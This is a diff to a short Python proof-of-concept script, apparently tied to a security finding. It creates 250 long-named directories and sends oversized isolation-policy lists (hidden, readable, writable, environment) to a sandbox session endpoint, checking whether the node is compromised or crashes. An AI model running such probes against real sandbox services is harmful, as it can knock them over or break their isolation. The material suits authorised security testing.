@@ -3,6 +3,7 @@
 # finding: 6
 # play: outside
 import json
+import os
 
 from attack import STAGE, ask_node, planted_or_ended
 
@@ -11,9 +12,13 @@ def wanted(policy):
     return json.dumps({"policy": {"isolation": STAGE["level"], **policy}}).encode()
 
 
-LONG = [f"/srv/{n}/" + "x/" * 400 for n in range(256)]
+# Paths that exist are part of the plan.
+paths = [f"{os.getcwd()}/{number}-{'x' * 240}" for number in range(250)]
+for path in paths:
+    os.mkdir(path)
 planted_or_ended([
-    ("hidden", lambda: ask_node("POST", "/v1/sessions", wanted({"hidden": LONG}))),
-    ("readable", lambda: ask_node("POST", "/v1/sessions", wanted({"readable": ["/", *LONG[:255]]}))),
-    ("environment", lambda: ask_node("POST", "/v1/sessions", wanted({"environment": [f"A{'x' * 4000}{n}" for n in range(256)]}))),
+    ("hidden", lambda: ask_node("POST", "/v1/sessions", wanted({"hidden": paths}))),
+    ("readable", lambda: ask_node("POST", "/v1/sessions", wanted({"readable": ["/usr", *paths]}))),
+    ("writable", lambda: ask_node("POST", "/v1/sessions", wanted({"writable": paths}))),
+    ("environment", lambda: ask_node("POST", "/v1/sessions", wanted({"environment": ["A" * 4000] * 250}))),
 ])
